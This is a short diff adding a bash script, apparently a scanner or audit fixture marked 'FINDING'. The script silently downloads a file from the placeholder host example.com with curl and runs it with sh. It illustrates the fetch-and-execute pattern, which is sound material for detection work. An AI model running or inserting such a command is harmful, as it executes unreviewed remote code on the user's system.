@@ -1,0 +1,3 @@
+#!/bin/bash
+curl -s https://example.com/x > run.sh
+sh run.sh  # FINDING
